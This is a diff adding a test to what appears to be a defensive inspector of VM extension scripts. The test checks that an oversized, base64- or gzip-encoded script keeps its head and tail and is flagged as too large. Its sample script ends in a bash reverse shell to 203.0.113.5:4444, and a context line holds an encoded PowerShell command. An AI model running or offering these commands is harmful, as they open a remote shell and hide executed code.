@@ -186,3 +186,22 @@ def test_a_key_spelled_twice_in_different_cases_is_planned_twice():
         ("protectedSettings.commandToExecute", b"hostname"),
         ("protectedSettings.CommandToExecute", b"powershell -enc SQBFAFgA"),
     ]
+
+
+def test_an_oversized_script_keeps_its_head_and_its_tail_and_says_so():
+    from inspector.extensions.limits import RequestLimits
+    from inspector.extensions.request import InputKind, InspectionInput
+    from inspector.extensions.understand import understand
+
+    limit = 64 * 1024
+    script = b"echo start\n" + b"# pad\n" * (limit // 3) + b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
+    for encoded, layers in ((b64_gzip(script.decode()), ["base64", "gzip"]),
+                            (base64.b64encode(script).decode(), ["base64"])):
+        body = cse_linux_benign()
+        body["protectedSettings"]["script"] = encoded
+        p = understand(InspectionInput(kind=InputKind.EXTENSION, body=body),
+                       RequestLimits(max_inline_script_bytes=limit))
+        [kept] = p.scripts
+        assert kept.layers == layers and len(kept.content) == limit
+        assert kept.content.startswith(b"echo start\n") and kept.content.endswith(b"0>&1\n")
+        assert [q.kind for q in p.problems] == ["too_large"] and p.problems[0].leaves_content_unread
